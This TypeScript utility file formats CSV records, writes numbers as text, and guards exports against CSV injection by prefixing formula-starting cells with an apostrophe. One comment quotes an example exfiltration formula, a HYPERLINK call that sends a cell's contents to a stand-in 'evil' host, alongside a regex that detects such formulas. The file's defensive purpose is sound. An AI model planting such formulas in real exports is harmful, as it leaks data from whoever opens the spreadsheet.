/**
 * RFC 4180 record formatting: a field is quoted when it holds the delimiter,
 * a double quote, CR or LF, and quotes inside are doubled; records end in
 * CRLF. Written by hand because the export formats millions of rows and
 * csv-stringify spends most of the export's time per field; the unit test
 * checks this against csv-stringify on generated fields.
 */
export function csvFormatter(delimiter: string): (fields: readonly string[]) => string {
  if (delimiter.length !== 1 || delimiter === '"' || delimiter === '\r' || delimiter === '\n') {
    throw new Error(`unusable CSV delimiter ${JSON.stringify(delimiter)}`);
  }
  const special = new RegExp(`["\\r\\n${delimiter.replace(/[\\\]^-]/g, '\\$&')}]`);
  const field = (text: string) => (special.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  return (fields) => {
    let line = field(fields[0] ?? '');
    for (let i = 1; i < fields.length; i++) line += delimiter + field(fields[i] as string);
    return `${line}\r\n`;
  };
}

/**
 * A number exactly as String() writes it, without String(): V8 keeps the last ~16k doubles it turned
 * into text, with their strings, in a cache that young collections treat as live, so exporting a million
 * distinct values promoted about 1 MB per collection into the old generation (some 50 MB of resident
 * memory before the next full collection). JSON.stringify writes a finite number the same way (both are
 * the language's Number::toString) and does not use that cache.
 */
export function decimalText(value: unknown): string {
  return typeof value === 'number' && Number.isFinite(value) ? JSON.stringify(value) : String(value);
}

/** First characters a spreadsheet reads as the start of a formula (OWASP "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell a spreadsheet will show as text: one starting with `=`, `+`, `-`, `@`, tab or carriage
 * return gets a leading `'`, as OWASP recommends, so `=HYPERLINK("http://evil/?"&A1)` typed as a lot
 * number cannot run when a metrologist opens the export in Excel or LibreOffice. Only for free-text
 * columns: numbers are written as numbers (a negative deviation stays `-0.5`).
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
